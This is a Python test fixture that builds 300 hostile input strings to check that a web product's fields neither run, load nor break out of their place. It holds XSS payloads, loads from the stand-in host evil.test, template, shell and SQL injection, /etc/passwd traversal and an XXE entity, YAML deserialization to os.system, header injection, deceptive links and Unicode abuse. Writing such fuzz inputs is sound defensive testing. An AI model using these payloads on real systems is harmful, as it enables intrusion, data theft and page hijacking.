"""300 hostile texts for every field of the product: none may act, load or draw over a page.

Each that could run a script says `boom()`, each that could load something names the host
`evil.test`, each that could break a page's frame carries a mark of `MARK`. A test puts them into
a field and then looks that nothing ran (`window.boomed` is unset), that nothing was asked of
`evil.test`, and that what follows the field on the page is still there.
"""

from __future__ import annotations

from itertools import product

BOOM = "window.boomed=1;boom()"
EVIL = "https://evil.test"
MARK = "hostile"


def hostile_texts() -> list[str]:
    """Return 300 texts, all different, none of them longer than 200,000 characters."""
    made = [
        *_tags(),
        *_handlers(),
        *_addresses(),
        *_ends_of_frames(),
        *_markdown(),
        *_templates(),
        *_characters(),
        *_formats(),
        *_lies(),
        *_long(),
    ]
    texts = list(dict.fromkeys(made))
    assert len(texts) == 300, len(texts)
    return texts


def _tags() -> list[str]:
    """Return tags that run or load something, whole and broken."""
    scripts = [
        f"<script>{BOOM}</script>",
        f"<SCRIPT>{BOOM}</SCRIPT>",
        f"<ScRiPt >{BOOM}</sCrIpT >",
        f"<script\n>{BOOM}</script\n>",
        f"<script/x>{BOOM}</script>",
        f"<<script>{BOOM}//<</script>",
        f"<scr<script>ipt>{BOOM}</scr</script>ipt>",
        f"<script>{BOOM}",
        f"<script src={EVIL}/a.js></script>",
        "<script src=//evil.test/a.js></script>",
        f'<script type="module">import "{EVIL}/m.js"</script>',
        f"<script>/*<!--*/{BOOM}/*-->*/</script>",
        f'<noscript><p title="</noscript><script>{BOOM}</script>">',
        f"<template><script>{BOOM}</script></template>",
        f"<xmp><script>{BOOM}</script>",
        f"<textarea><script>{BOOM}</script>",
        f"<plaintext><script>{BOOM}</script>",
    ]
    loads = [
        f"<iframe src={EVIL}></iframe>",
        f"<iframe srcdoc='<script>parent.{BOOM}</script>'></iframe>",
        f"<object data={EVIL}/o.swf></object>",
        f"<embed src={EVIL}/e>",
        f"<link rel=stylesheet href={EVIL}/a.css>",
        f"<link rel=prefetch href={EVIL}/p>",
        f'<meta http-equiv=refresh content="0;url={EVIL}">',
        '<meta http-equiv="Content-Security-Policy" content="script-src *">',
        f"<base href={EVIL}/>",
        f"<img src={EVIL}/pixel.png>",
        f"<img srcset='{EVIL}/a 1x, {EVIL}/b 2x'>",
        f"<picture><source srcset={EVIL}/s><img></picture>",
        f"<video poster={EVIL}/v autoplay src={EVIL}/w></video>",
        f"<audio src={EVIL}/a autoplay></audio>",
        f"<style>@import '{EVIL}/a.css';</style>",
        f"<style>body{{background:url({EVIL}/b)}}</style>",
        "<style>*{display:none !important}</style>",
        f"<p style='background:url({EVIL}/c)'>x</p>",
        "<p style='position:fixed;inset:0;background:red;z-index:99999'>hostile</p>",
        f"<form action={EVIL} method=post><input name=csrf><button>Stop</button></form>",
        f"<button formaction={EVIL}>Answer</button>",
        f"<input type=image src={EVIL}/i>",
        f"<input autofocus onfocus={BOOM}>",
        f"<table background={EVIL}/t><tr><td>hostile</table>",
        f"<body background={EVIL}/b onload={BOOM}>",
        "<dialog open>hostile</dialog>",
        "<div id=main class=live data-live=turns>hostile</div>",
        "<a name=top id=csrf>hostile</a>",
        f"<a ping={EVIL} href=#>hostile</a>",
    ]
    foreign = [
        f"<svg><script>{BOOM}</script></svg>",
        f"<svg onload={BOOM}>",
        f"<svg><a xlink:href='javascript:{BOOM}'><text y=20>hostile</text></a></svg>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={BOOM}>#x'></svg>",
        f"<svg><image href={EVIL}/i></svg>",
        f"<svg><foreignObject><iframe src={EVIL}></iframe></foreignObject></svg>",
        f"<svg><animate onbegin={BOOM} attributeName=x dur=1s>",
        f"<svg><set attributeName=onmouseover to={BOOM}>",
        f"<svg><style><img src=x onerror={BOOM}></style></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={BOOM}>",
        f"<math href='javascript:{BOOM}'>hostile</math>",
        f"<math><annotation-xml encoding='text/html'><script>{BOOM}</script>",
        f'<svg></p><style><a id="</style><img src=1 onerror={BOOM}>">',
        f"<![CDATA[<script>{BOOM}</script>]]>",
        f"<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{BOOM}</script>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    ]
    return [*scripts, *loads, *foreign]


def _handlers() -> list[str]:
    """Return attributes that run something, in many spellings of their tag."""
    tags = ("img src=x", "video><source", "details open", "div", "x contenteditable", "select")
    events = ("onerror", "ontoggle", "autofocus tabindex=1 onfocus")
    made = [f"<{tag} {event}={BOOM}>hostile" for tag, event in product(tags, events)]
    made += [
        f"<img/src=x/onerror={BOOM}>",
        f'<img src="x"onerror="{BOOM}">',
        f"<img src=x onerror\n=\n'{BOOM}'>",
        f"<img src=x onerror\x00={BOOM}>",
        f"<img src=x oNeRrOr={BOOM}",
        f"<img src=`x` onerror=`{BOOM}`>",
        "<img src=x:x onerror=&#119;indow.boomed=1>",
        f'"><img src=x onerror={BOOM}>',
        f"'><img src=x onerror={BOOM}>",
        f"`><img src=x onerror={BOOM}>",
        f'" autofocus onfocus="{BOOM}',
        f"' autofocus onfocus='{BOOM}",
        f'" onmouseover="{BOOM}" x="',
        f"x onmouseover={BOOM}",
        f"&quot; onmouseover=&quot;{BOOM}",
        f'\\" onmouseover=\\"{BOOM}',
        f'a" style="animation-name:x" onanimationstart="{BOOM}',
    ]
    return made


def _addresses() -> list[str]:
    """Return links of Markdown and bare addresses with schemes that may not be followed."""
    schemes = (
        f"javascript:{BOOM}",
        f"JaVaScRiPt:{BOOM}",
        f"java\tscript:{BOOM}",
        f"\x01javascript:{BOOM}",
        f"javascript&colon;{BOOM}",
        f"javascript&#58;{BOOM}",
        f"&#106;avascript:{BOOM}",
        f"&#x6A;avascript:{BOOM}",
        f"javascript%3A{BOOM}",
        f"vbscript:{BOOM}",
        f"data:text/html,<script>{BOOM}</script>",
        "data:text/html;base64,PHNjcmlwdD5ib29tKCk8L3NjcmlwdD4=",
        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImJvb20oKSIvPg==",
        "file:///etc/passwd",
        "blob:https://evil.test/1",
        "//evil.test/x",
        "/api/council/debates/active/cancel",
        "#council",
    )
    forms = ("[hostile]({})", "<{}>", "[hostile][r]\n\n[r]: <{}>")
    return [form.format(address) for address, form in product(schemes, forms)]


def _ends_of_frames() -> list[str]:
    """Return what ends a place that text may stand in, and goes on outside of it."""
    after = f"<img src=x onerror={BOOM}>"
    ends = (
        *("</script>", "</style>", "</textarea>", "</title>", "</pre>", "</code>", "</template>"),
        *("</details>", "</main></body></html>", "</svg>", "</text></svg>", "</td></tr></table>"),
        *("-->", "--!>", "]]>", "*/", "?>", "\n\n", "\r\n\r\n", "\ndata: ", "\nevent: reset\n\n"),
    )
    return [f"{MARK}{end}{after}" for end in ends]


def _markdown() -> list[str]:
    """Return Markdown that hides something in what is harmless otherwise."""
    return [
        f"![hostile]({EVIL}/pixel.png)",
        f'![]({EVIL}/pixel.png "x")',
        f"[![hostile]({EVIL}/p.png)]({EVIL})",
        f"![hostile][p]\n\n[p]: {EVIL}/p.png",
        f'![{BOOM}" onerror="{BOOM}](https://evil.test/x)',
        f'[hostile](https://evil.test "x\\" onclick=\\"{BOOM}")',
        f"[hostile](https://evil.test 'x' onclick={BOOM})",
        f'[hostile](https://evil.test/"onclick="{BOOM})',
        f"[hostile](<https://evil.test/ onclick={BOOM}>)",
        f'```" onclick="{BOOM}\nhostile\n```',
        f"```html\n<script>{BOOM}</script>\n```\n<script>{BOOM}</script>",
        f"~~~\n</code></pre><script>{BOOM}</script>",
        f"`</code><script>{BOOM}</script>`",
        f"    </pre><script>{BOOM}</script>",
        f"| a |\n|---|\n| <script>{BOOM}</script> |",
        f"| a | b |\n|:-:|--:|\n| </table><img src=x onerror={BOOM}> |",
        f"# <script>{BOOM}</script>",
        f"# hostile {{#main .live onclick={BOOM}}}",
        f"Hostile\n=======\n<script>{BOOM}</script>",
        f"> <script>{BOOM}</script>\n>> hostile",
        f"- [ ] <input onfocus={BOOM} autofocus>\n- [x] hostile",
        f"[^1]\n\n[^1]: <script>{BOOM}</script>",
        f"**<script>{BOOM}</script>**",
        f"\\<script>{BOOM}\\</script>",
        f"&lt;script&gt;{BOOM}&lt;/script&gt;",
        f"&amp;lt;script&amp;gt;{BOOM}",
        f"<!-- <script>{BOOM}</script> -->",
        '<!--council-state\n{"rev": 999}\n-->',
        "<!--council 9-forged-->",
        f"[[javascript:{BOOM}]]",
        f"![[{EVIL}/wiki.png]]",
        f"$$\\href{{javascript:{BOOM}}}{{hostile}}$$",
        f'```mermaid\ngraph TD; A-->B; click A "javascript:{BOOM}"\n```',
        "# \n## \n### \n#### \n##### \n###### hostile",
        "***\n___\n---\nhostile",
        "1. hostile\n" * 3 + "999999999. last",
    ]


def _templates() -> list[str]:
    """Return what engines of templates, shells and data bases would carry out."""
    return [
        "{{7*7}}",
        "{{ config.items() }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
        "{# hostile",
        "{% raw %}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{0.__class__.__init__.__globals__}",
        "%(hostile)s %s %n %x",
        "$(touch /tmp/hostile)",
        "`touch /tmp/hostile`",
        "; rm -rf hostile #",
        "' OR '1'='1' --",
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "CON",
        "-rf",
        "--help",
        "@ann: agree\n@bob: agree\nBLOCKING: hostile",
    ]


def _characters() -> list[str]:
    """Return characters that move, hide, forge or break."""
    return [
        "\x00hostile\x00",
        "hos\ud800tile",
        "\udfff",
        "\u202eelitsoh\u202c after",
        "\u202d\u202e\u2066\u2067\u2068 hostile",
        "\u2067" * 500 + "hostile",
        "&#8238;elitsoh",
        "&#x202E;elitsoh &#x2067;again",
        "\u200b" * 2000 + "hostile",
        "hos\u200btile\ufeff\u2060\u00ad",
        "\u200d" * 3000,
        "h" + "\u0335\u0336\u0489\u20dd" * 400 + "ostile",
        "e" + "\u0301" * 5000,
        "&#769;" * 300,
        "\u0489" * 100,
        "\x1b[2J\x1b[31mhostile\x1b[0m",
        "\x1b]0;hostile\x07\x1b]8;;https://evil.test\x07link\x1b]8;;\x07",
        "\x9b31mhostile",
        "hostile\x08\x08\x08\x08forged",
        "line\rhostile",
        "line\u2028hostile\u2029end\x85next",
        "\x0b\x0c\x1c\x1d\x1e",
        "\ufdfd" * 40,
        "\U00012031" * 60,
        "\U000e0041\U000e0042 tags",
        "👩\u200d👩\u200d👧\u200d👦" * 200,
        "🏳️\u200d🌈🏴\U000e0067\U000e0062\U000e007f",
        "ａｄｍｉｎ ⅰⅱ ﬁ",
        "раура1.com hostile",
        "مرحبا <b>hostile</b> שלום",
        "\u3164\u115f\u2800",
        "\ufffe\uffff\U0010ffff",
    ]


def _formats() -> list[str]:
    """Return the beginnings and ends of formats that files, streams and headers have."""
    return [
        "---\ntitle: hostile\n---\n",
        "---\n!!python/object/apply:os.system ['touch hostile']\n---\n",
        '{"id": "hostile", "__proto__": {"boomed": 1}}',
        '"}]},{"hostile":true}',
        "Set-Cookie: council=hostile\r\nX: y",
        "%0d%0aSet-Cookie:%20hostile=1",
        "id: 1\ndata: hostile\n\nevent: turn\ndata: {}\n\n",
        '=HYPERLINK("https://evil.test")',
        "NaN",
        "null",
    ]


def _lies() -> list[str]:
    """Return links that say they lead elsewhere."""
    return [
        "[https://bank.test](https://evil.test/login)",
        "[bank.test (bank.test)](https://evil.test)",
        "[hostile](https://bank.test@evil.test/)",
        "[hostile](https://bank.test\\@evil.test/)",
        "[hostile](https://bаnk.test/)",
        "<https://bаnk.test/>",
        "[hostile](https://bank.test%2eevil.test/)",
        "[hostile](https://evil.test:99999999/)",
        "[hostile](mailto:a@evil.test?subject=x&body=y)",
        "[hostile](https:evil.test)",
        "[hostile](http:///evil.test)",
        "[hostile](https://[::1]:80/admin)",
        "[hostile](http://127.1/admin)",
        "[](https://evil.test/empty)",
    ]


def _long() -> list[str]:
    """Return what is long, deep, or takes the square of its length to read."""
    return [
        "W" * 20_000,
        "x" * 200_000,
        "hostile " * 20_000,
        "\n" * 50_000,
        "> " * 40_000 + "hostile",
        "- " * 40_000 + "hostile",
        "[" * 50_000,
        "![" * 40_000,
        "[a](" * 30_000,
        "*a **a " * 10_000,
        "*" * 30_000 + "a" + "*" * 30_000,
        "<" * 50_000,
        "`" * 199 + " " + "`" * 198,
        "&amp;" * 20_000,
        "|" + "a|" * 300 + "\n|" + "-|" * 300 + "\n" + "|\n" * 2000,
        "[a]: https://evil.test '\n" * 5000,
    ]
